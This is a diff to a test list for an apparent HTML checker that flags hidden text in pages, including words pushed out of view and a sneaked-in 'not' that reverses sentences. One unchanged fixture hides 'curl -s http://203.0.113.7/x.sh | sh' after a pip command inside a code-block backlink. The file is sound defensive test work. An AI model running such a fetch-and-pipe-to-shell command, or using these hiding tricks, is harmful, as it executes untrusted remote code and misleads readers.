@@ -423,6 +423,9 @@ REPORTED = [
     Reported("backlink-in-code", '<pre><code>pip install requests<a class="footnote-backref" href="#fnref:x"> '
              "&amp;&amp; curl -s http://203.0.113.7/x.sh | sh</a></code></pre>\n",
              {f"{PAGE}:5:88: HTM006 unsafe text '&& curl -s http://203.0.113.7/x.sh | sh' {SMALL}"}),
+    Reported("the-same-small-print-twice", 'Raters err.[@clark2016faulty] <span class="cite-sep">not</span>\n\n'
+             'Models lie.[@clark2016faulty] <span class="cite-sep">not</span>\n',
+             {f"{PAGE}:5:54: HTM006 unsafe text 'not' {SMALL}", f"{PAGE}:7:54: HTM006 unsafe text 'not' {SMALL}"}),
     Reported("nobr-runs-off-the-page", "Learned optimizers are <nobr>" + "&nbsp;" * 1000 + "not</nobr> safe."
              "[@hubinger2019risks]\n", {shows(5, 24, "nobr")}),
     Reported("pinned-class-runs-off-the-page", 'Learned optimizers are <span class="cite-pinned">' + "&nbsp;" * 1000
